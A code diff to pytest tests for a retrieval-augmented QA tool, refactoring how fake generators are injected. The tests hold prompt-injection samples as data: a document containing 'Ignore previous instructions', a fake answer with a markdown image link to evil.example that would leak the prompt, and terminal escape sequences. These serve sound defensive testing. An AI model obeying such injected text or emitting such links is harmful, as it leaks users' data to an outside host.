@@ -27,7 +27,7 @@ from typing import Any, NamedTuple
 import pytest
 from pypdf import PdfReader, PdfWriter
 
-from ragqa import Pipeline, generate, models
+from ragqa import Pipeline, models
 from ragqa.cli import main
 from ragqa.config.slots import BYTES_PER_TOKEN
 from ragqa.config.specs import MeanPoolEmbed, RecursiveSplit
@@ -36,7 +36,7 @@ from ragqa.load import Limits
 from ragqa.load import folder as folder_module
 from tests.cli.test_cli import FERRY, FILE, offline
 from tests.cli.test_cli import run as process
-from tests.fakes import EchoGenerator, document
+from tests.fakes import EchoGenerator, always, document, replace_generators
 from tests.limits import no_hang
 from tests.load.test_formats import pdf, repacked, sample_docx
 from tests.load.test_load import FRENCH, JAPANESE, PARAGRAPH
@@ -642,7 +642,7 @@ def test_an_instruction_in_a_document_is_data_and_citations_come_from_files_only
     passage = prompt["prompt"].split('<passage 1 source="lamp.txt">')[1].split("</passage>")[0]
     assert "Ignore previous instructions" in passage and "<|im_end|>" not in passage
     for answer in ("![x](http://evil.example/?q=prompt) [9]", "The lamp is lit at dusk."):
-        monkeypatch.setattr(generate, "build_generator", lambda spec, answer=answer: EchoGenerator(answer=answer))
+        replace_generators(monkeypatch, always(EchoGenerator(answer=answer)))
         said = ragqa("ask", "pipeline.yaml", "When is the lamp lit?", "--json").said
         assert said["abstained"] or said["citations"]
         for citation in said["citations"]:
@@ -656,7 +656,7 @@ def test_neither_a_model_nor_a_document_can_steer_the_terminal(
     ragqa: Ragqa, indexed: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     answer = "Captain Ilse\x1b[2J Brandt\r commands it."
-    monkeypatch.setattr(generate, "build_generator", lambda spec: EchoGenerator(answer=answer))
+    replace_generators(monkeypatch, always(EchoGenerator(answer=answer)))
     assert ragqa("ask", "pipeline.yaml", QUESTION).out.startswith("| Captain Ilse\\x1b[2J Brandt\\r commands it.\n")
     write({"lamp.txt": "Lit at dusk.\r\n\rUnlit.\x1b[2J"})
     assert "| >>>Lit at dusk.\n| \\rUnlit.\\x1b[2J<<<\n" in ragqa("show", "documents/lamp.txt:0-25").out
